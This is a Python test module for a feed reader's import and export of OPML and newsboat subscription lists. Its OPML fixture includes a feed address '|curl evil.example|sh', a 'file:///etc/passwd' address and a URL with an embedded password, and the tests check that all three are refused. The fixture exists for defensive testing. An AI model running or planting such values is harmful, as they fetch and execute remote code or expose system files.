"""Feeds come from other readers and go back to them: nothing is lost on the way, and nothing is run."""

import sqlite3
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings

from newsdesk.desk.desk import Desk
from newsdesk.desk.wire_lists import ImportReport
from newsdesk.model.clean import Clean
from newsdesk.model.errors import NewsdeskError, UsageError
from newsdesk.model.wire import Arrival, Course, Wire
from newsdesk.net.address import checked
from newsdesk.sources.newsboat import read_urls, write_urls
from newsdesk.sources.opml import read_opml, write_opml
from newsdesk.sources.subscriptions import Subscription
from tests.builders import an_article
from tests.desk.feeds import a_desk
from tests.sources.test_opml import subscriptions

RELOADED_OPML = b"""<?xml version="1.0"?><opml version="2.0"><head><title>Subscriptions of ann</title></head><body>
<outline text="News"><outline type="rss" text="Harbour" xmlUrl="https://harbour.example/rss" htmlUrl="https://harbour.example/"
 frss:priority="main"/></outline>
<outline text="Weather"><outline type="rss" text="Tides" xmlUrl="https://tides.example/atom"/></outline>
<outline type="rss" text="Evil" xmlUrl="|curl evil.example|sh"/><outline type="rss" text="Own" xmlUrl="file:///etc/passwd"/>
<outline type="rss" text="Paid" xmlUrl="https://ann:secret@paid.example/rss"/>
</body></opml>"""
NEWSBOAT = b"""# my feeds
https://harbour.example/rss "~Harbour" news "local news"
https://tides.example/atom weather !
"query:Unread:unread = \\"yes\\""
exec:~/bin/feed.sh
filter:~/bin/f:https://x.example/
https://harbour.example/rss again
"""


def imported(desk: Desk, folder: Path, data: bytes, name: str = "list", cache: Path | None = None) -> ImportReport:
    (folder / name).write_bytes(data)
    return desk.wires.import_list(folder / name, cache)


def said(wires: Sequence[Wire]) -> list[tuple[str, str, tuple[str, ...], tuple[str, ...]]]:
    return [(wire.source.name, wire.url, wire.folder, wire.tags) for wire in wires]


def test_opml_brings_feeds_with_their_folders_and_refuses_what_is_no_feed(tmp_path: Path) -> None:
    with a_desk(tmp_path / "data") as desk:
        report = imported(desk, tmp_path, RELOADED_OPML)
        assert said(report.added) == [
            ("Harbour", "https://harbour.example/rss", ("News",), ()),
            ("Tides", "https://tides.example/atom", ("Weather",), ()),
        ]
        assert [one.reason.partition(";")[0] for one in report.refused] == [
            "it is a command, and newsdesk runs none out of a list",
            "it is a file",
            "there is a password in its address",
        ]
        assert "secret" not in repr(report)
        assert desk.wires.listed() == report.added


def test_newsboats_list_brings_tags_and_keeps_its_questions_in_the_report(tmp_path: Path) -> None:
    with a_desk(tmp_path / "data") as desk:
        report = imported(desk, tmp_path, NEWSBOAT, "urls")
        assert said(report.added) == [
            ("Harbour", "https://harbour.example/rss", (), ("news", "local news", "again")),
            ("https://tides.example/atom", "https://tides.example/atom", (), ("weather",)),
        ]
        assert report.added[1].hidden
        assert [(query.name, query.query) for query in report.queries] == [("Unread", 'unread = "yes"')]
        assert len(report.refused) == 2


def test_what_is_followed_already_stays_as_it_is(tmp_path: Path) -> None:
    with a_desk(tmp_path / "data") as desk:
        imported(desk, tmp_path, RELOADED_OPML)
        before = desk.wires.listed()
        report = imported(desk, tmp_path, NEWSBOAT, "urls")
        assert (report.added, report.known) == ([], 2)
        assert desk.wires.listed() == before


def are_as_fetched(listed: list[Subscription]) -> bool:
    """Whether the addresses are written as they are asked for: `?` with nothing behind it is not."""
    return all(checked(feed.url) == feed.url for feed in listed)


@given(listed=subscriptions(folders=True).filter(are_as_fetched))
@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_a_list_comes_back_from_the_desk_as_it_went_in(tmp_path: Path, listed: list[Subscription]) -> None:
    with a_desk(tmp_path / f"data{len(list(tmp_path.iterdir()))}") as desk:
        imported(desk, tmp_path, write_opml(listed))
        again = read_opml(desk.wires.export_list("opml"))
    by_url = {feed.url: feed for feed in again.feeds}
    assert by_url.keys() == {feed.url for feed in listed}
    for feed in listed:
        back = by_url[feed.url]
        assert (back.site, back.folder, back.tags) == (feed.site, feed.folder, feed.tags)
        # Of two of one name the second has its host behind it.
        assert back.title.startswith(feed.title)


@given(listed=subscriptions(folders=False).filter(are_as_fetched))
@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_newsboats_list_comes_back_likewise(tmp_path: Path, listed: list[Subscription]) -> None:
    with a_desk(tmp_path / f"data{len(list(tmp_path.iterdir()))}") as desk:
        imported(desk, tmp_path, write_urls(listed) or b"#", "urls")
        again = read_urls(desk.wires.export_list("newsboat")).feeds
    assert [(feed.url, feed.tags, feed.hidden) for feed in again] == [
        (feed.url, feed.tags, feed.hidden) for feed in listed
    ]


@pytest.mark.parametrize("data", [b"<html><body>no list</body></html>", b"<?xml version='1.0'?><rss/>"])
def test_what_is_no_list_is_told(tmp_path: Path, data: bytes) -> None:
    with a_desk(tmp_path / "data") as desk, pytest.raises(NewsdeskError, match="outlines"):
        imported(desk, tmp_path, data)


def test_a_list_that_is_not_there_is_told(tmp_path: Path) -> None:
    with a_desk(tmp_path / "data") as desk, pytest.raises(UsageError, match="cannot be read"):
        desk.wires.import_list(tmp_path / "nowhere")


def a_cache(path: Path, *items: tuple[str, str, str, int]) -> Path:
    """A cache of newsboat with items of feed, guid, link, and whether unread."""
    with sqlite3.connect(path) as cache:
        cache.execute(
            "CREATE TABLE rss_item (id INTEGER PRIMARY KEY, guid VARCHAR(64), title VARCHAR(1024), url VARCHAR(1024),"
            " feedurl VARCHAR(1024), content TEXT, unread INTEGER(1) NOT NULL)"
        )
        cache.executemany("INSERT INTO rss_item (feedurl, guid, url, unread) VALUES (?, ?, ?, ?)", items)
    cache.close()
    return path


def test_what_was_read_in_newsboat_is_read_here_when_it_comes(tmp_path: Path) -> None:
    feed = "https://harbour.example/rss"
    cache = a_cache(
        tmp_path / "cache.db",
        (feed, "one", "https://harbour.example/1", 0),
        (feed, "two", "https://harbour.example/2", 1),
        (feed, "", "https://harbour.example/3", 0),
        ("https://elsewhere.example/", "one", "", 0),
    )
    with a_desk(tmp_path / "data") as desk:
        report = imported(desk, tmp_path, NEWSBOAT, "urls", cache)
        assert report.read == 2
        keys = (b"one", b"two", b"https://harbour.example/3")
        articles = tuple(an_article(key.decode()[-5:], key=key) for key in keys)
        desk._store.feeds.take_in([Arrival(report.added[0].source.id, Course(), articles)])
        desk.load_index()
        found = desk.search("is:unread")
        assert [headline.title for headline in desk.headlines(found.ids(0, 9))] == ["two"]


def test_what_was_read_in_newsboat_is_read_here_where_it_is_already(tmp_path: Path) -> None:
    feed = "https://harbour.example/rss"
    with a_desk(tmp_path / "data") as desk:
        report = imported(desk, tmp_path, NEWSBOAT, "urls")
        article = an_article("one", key=b"one")
        desk._store.feeds.take_in([Arrival(report.added[0].source.id, Course(), (article,))])
        imported(desk, tmp_path, NEWSBOAT, "urls", a_cache(tmp_path / "cache.db", (feed, "one", "", 0)))
        [health, _] = desk.wires.health()
        assert health.share_read == 1.0


def test_a_cache_that_is_none_is_told(tmp_path: Path) -> None:
    (tmp_path / "cache.db").write_bytes(b"no database at all, but long enough to be looked at as one" * 50)
    with a_desk(tmp_path / "data") as desk:
        with pytest.raises(UsageError, match="no cache of newsboat"):
            imported(desk, tmp_path, NEWSBOAT, "urls", tmp_path / "cache.db")
        with pytest.raises(UsageError, match="no file"):
            imported(desk, tmp_path, NEWSBOAT, "urls", tmp_path / "nowhere.db")


def test_thousands_of_feeds_are_taken_in_and_written_within_seconds(tmp_path: Path) -> None:
    listed = b"".join(b"https://wire%d.example/feed tag%d\n" % (number, number % 7) for number in range(2000))
    with a_desk(tmp_path / "data") as desk:
        assert len(imported(desk, tmp_path, listed, "urls").added) == 2000
        assert desk.wires.export_list("opml").count(b"xmlUrl") == 2000
        assert Clean("tag3") in desk.wires.listed()[3].tags
